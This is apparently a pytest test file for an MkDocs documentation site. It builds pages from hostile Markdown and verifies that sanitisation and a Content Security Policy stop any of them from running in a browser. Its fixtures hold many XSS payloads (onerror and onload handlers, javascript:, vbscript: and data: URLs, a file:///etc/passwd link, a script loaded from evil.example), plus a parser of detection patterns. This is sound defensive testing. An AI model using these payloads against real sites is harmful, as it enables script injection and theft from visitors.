"""Hostile pages are text in the built site: no element, attribute, address or script of theirs reaches a browser."""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml

from tests.report.browser import CHROMIUM, evaluate, needs_chromium

RAN = "document.documentElement.dataset.ran=1"
HOSTILE = {
    "link_out": f"See <[img src=x onerror={RAN}](../README.md)> and <[script src=//evil.example/x.js](../README.md)>",
    "script": f"<script>{RAN}</script>\n\na <script>{RAN}</script> b",
    "block": f"<div onclick='{RAN}'>\n<img src=x onerror={RAN}>\n</div>\n\n<svg onload={RAN}>\n\n<iframe srcdoc='<p>x'>",
    "comment": f"<!-- x --><img src=x onerror={RAN}>\n\n<!-- a\n--> <img src=x onerror={RAN}>\n",
    "attributes": f"# T {{: onclick={RAN} }}\n\n[x](page.md){{: onmouseover={RAN} style=position:fixed class=modal }}\n",
    "fence": f"``` {{ .py onmouseover={RAN} data-bs-toggle=modal }}\nx\n```\n",
    "links": "\n".join(
        f"[x]({address})\n"
        for address in (
            "javascript:alert(1)", "java\tscript:alert(1)", "JAVASCRIPT:alert(1)", "data:text/html;base64,PHNjcmlwdD4=",
            "&#106;avascript:alert(1)", "vbscript:x", "&#1;javascript:alert(1)", "blob:x", "view-source:x", "file:///etc/passwd",
        )
    ),
    "references": "> 1. * [x]: javascript:alert(1)\n\n[x]\n\n[one\ntwo]: javascript:alert(1)\n\n[click][one two]\n",
    "images": "\n".join(
        f"![x]({address})\n"
        for address in (
            "https://evil.example/a.png", "//evil.example/a.png", "/\\evil.example/a.png", "&sol;&sol;evil.example/a.png",
            "</\t/evil.example/a.png>", "\\\\evil.example/a.png", "data:image/svg+xml,<svg onload=x>", "javascript:x",
        )
    ),
    "image_by_reference": "![x][y]\n\n[y]: https://evil.example/a.png\n",
    "title": f"# A <img src=x onerror={RAN}> & `<script>{RAN}</script>`\n\n## B <script>{RAN}</script>\n",
    "settings": f"---\ntemplate: evil.html\ntitle: <script>{RAN}</script>\n---\n# Another\n",
    "settings_without_marks": f"title: <script>{RAN}</script>\ntemplate: evil.html\n\n# Another\n",
    "formula": "$$\\href{javascript:alert(1)}{x}$$\n\n"
    "$\\style{position:fixed}{x}$ $\\class{modal}{x}$ $\\text{<img src=x>}$\n",
    "closing": "</div></div></body></html>\n\n<style>*{display:none}</style>\n\n<meta http-equiv=refresh content=0>\n",
    "tables": f"| a |\n|---|\n| <img src=x onerror={RAN}> `<b>` |\n",
    "autolinks": f"<https://example.org onmouseover={RAN}> <javascript:alert(1)> <mailto:x@example.org>\n",
    "held": "\ue0000\ue001 \ue000999999\ue001 \u00023\u0003 wzxhzdk:0 klzzwxh:0000\n",
    "entities": f"&lt;img src=x onerror={RAN}&gt; &#60;script&#62;{RAN}&#60;/script&#62;\n",
}  # fmt: skip
PLAIN = """# Plain

A paragraph with `code <b>`, *words*, **more** & <https://example.org/a?b=1&c=2>, [a link](other.md#end "with a title").

![A figure](figure.svg "drawn")

| left | right |
|:-----|------:|
| 1    | <2    |

1. one
2. two

> quoted

```python
if 1 < 2: print("&")
```

$$\\frac{a}{b} < c$$ and $x^2$.

## End
"""


@pytest.fixture(scope="module")
def built(repository: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The site of hostile pages, with the settings, hooks and theme of the documents."""
    root = tmp_path_factory.mktemp("hostile")
    docs = root / "docs"
    shutil.copytree(repository / "docs" / "theme", docs / "theme")
    for name in ("hooks.py", "safe.py", "site.css", "search.js", "place.js"):
        shutil.copy2(repository / "docs" / name, docs / name)
    settings = yaml.safe_load((repository / "mkdocs.yml").read_text(encoding="utf-8"))
    settings["nav"] = [
        {"Start": "index.md"},
        *(f"{name}.md" for name in (*HOSTILE, "plain", "other")),
    ]
    settings |= {"strict": False, "validation": {}}
    (root / "mkdocs.yml").write_text(yaml.safe_dump(settings), encoding="utf-8")
    pages = HOSTILE | {
        "index": "# Start\n",
        "plain": PLAIN,
        "other": "# Other\n\n## End\n",
    }
    for name, text in pages.items():
        (docs / f"{name}.md").write_text(text, encoding="utf-8")
    (docs / "figure.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"/>')
    words = [sys.executable, "-m", "mkdocs", "build", "--site-dir", str(root / "site")]
    done = subprocess.run(words, cwd=root, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    return root / "site"


class Live(HTMLParser):
    """What a browser would obey in a page, besides the theme's own files."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        source = given.get("src") or ""
        if tag == "script" and not re.fullmatch(
            r"(\.\./)*(js|assets|search)/[\w.]+", source
        ):
            self.found.append(f"script {source}")
        if tag in {"iframe", "object", "embed", "svg", "base", "style"}:
            self.found.append(tag)
        self.found += [f"{tag} {name}" for name in given if name.startswith("on")]
        for value in map(str, given.values()):
            if re.match(
                r"(?i)[\s\x00-\x1f]*(javascript|data|vbscript|blob|file|view-source):",
                value,
            ):
                self.found.append(f"{tag} {value}")
        if tag == "img" and re.match(r"[/\\]|\w+:", source):
            self.found.append(f"img {source}")


def content_of(page: Path) -> str:
    """The part of a page that Markdown made, with the frame around it."""
    (content,) = re.findall(
        r'role="main">.*?<footer', page.read_text(encoding="utf-8"), re.DOTALL
    )
    return str(content)


@pytest.mark.parametrize("name", [*HOSTILE, "plain"])
def test_a_hostile_page_has_no_live_element(built: Path, name: str) -> None:
    text = (built / f"{name}.html").read_text(encoding="utf-8")
    assert Live(text).found == []
    assert "\ue000" not in text
    assert not re.search(
        r"<form|class=\"[^\"]*modal|position:fixed;?\"",
        content_of(built / f"{name}.html"),
    )


def test_what_looked_like_elements_is_shown(built: Path) -> None:
    assert f"&lt;img src=x onerror={RAN}" in (built / "link_out.html").read_text(
        encoding="utf-8"
    )
    assert f"&lt;script&gt;{RAN}&lt;/script&gt;" in (built / "script.html").read_text(
        encoding="utf-8"
    )


def test_what_documents_use_is_kept(built: Path) -> None:
    text = (built / "plain.html").read_text(encoding="utf-8")
    for part in (
        '<h1 id="plain">', "<code>code &lt;b&gt;</code>", "<em>words</em>", "<strong>more</strong> &amp;",
        '<a href="https://example.org/a?b=1&amp;c=2">', '<a href="other.html#end" title="with a title">',
        '<img alt="A figure" src="figure.svg" title="drawn">', '<th style="text-align: left;">', "&lt;2</td>", "<ol>",
        "<blockquote>", '<div class="codehilite">', '<span class="k">if</span>', "<mfrac>", '<a class="headerlink"',
    ):  # fmt: skip
        assert part in text, part
    assert 'if 1 &lt; 2: print("&amp;")' in re.sub(r"<[^<>]*>", "", text)


@needs_chromium
def test_nothing_of_hostile_pages_runs_in_a_browser(built: Path) -> None:
    """Not even without the policy of the pages: `evaluate` takes it away."""
    script = """
        await new Promise((go) => setTimeout(go, 200));
        document.querySelectorAll("[role=main] *").forEach((one) => {
            for (const kind of ["click", "mouseover", "error", "load"]) one.dispatchEvent(new Event(kind));
        });
        return document.documentElement.dataset.ran ?? "nothing";
    """
    start = built / "index.html"
    contents = "".join(content_of(built / f"{name}.html") for name in HOSTILE)
    every = built / "every.html"
    every.write_text(
        start.read_text(encoding="utf-8").replace(content_of(start), contents),
        encoding="utf-8",
    )
    assert contents.count(RAN) > 10 and evaluate(every, script) == "nothing"
    every.unlink()


def shown(page: Path) -> tuple[str, str]:
    """The document of a page after its scripts ran under its own policy, and what the browser said."""
    words = [
        str(CHROMIUM), "--headless=new", "--no-sandbox", "--disable-gpu", "--allow-file-access-from-files",
        "--enable-logging=stderr", "--virtual-time-budget=5000", "--dump-dom", page.resolve().as_uri(),
    ]  # fmt: skip
    done = subprocess.run(
        words, capture_output=True, text=True, timeout=120, check=False
    )
    return done.stdout, done.stderr


@needs_chromium
def test_the_policy_allows_the_scripts_of_the_site_and_no_other(built: Path) -> None:
    page = built / "plain.html"
    document, said = shown(page)
    assert "table-striped" in document, "the theme's script did not run"
    assert "Content Security Policy" not in said
    attack = f"<script>{RAN}</script><img src=x onerror={RAN}><script src=https://evil.example/x.js></script></body>"
    text = page.read_text(encoding="utf-8").replace("</body>", attack)
    for name, policy, ran in (("with", True, False), ("without", False, True)):
        kept = (
            text
            if policy
            else re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", text)
        )
        copy = page.with_name(f"{name}.html")
        copy.write_text(kept, encoding="utf-8")
        document, said = shown(copy)
        assert ('data-ran="1"' in document) is ran
        assert ("Content Security Policy" in said) is policy
        copy.unlink()


def test_every_page_states_the_policy(built: Path) -> None:
    pages = sorted(built.rglob("*.html"))
    assert len(pages) > len(HOSTILE)
    for path in pages:
        text = path.read_text(encoding="utf-8")
        assert "script-src &#39;self&#39; file:;" in text and not re.search(
            r"<script(?! src=)", text
        ), path
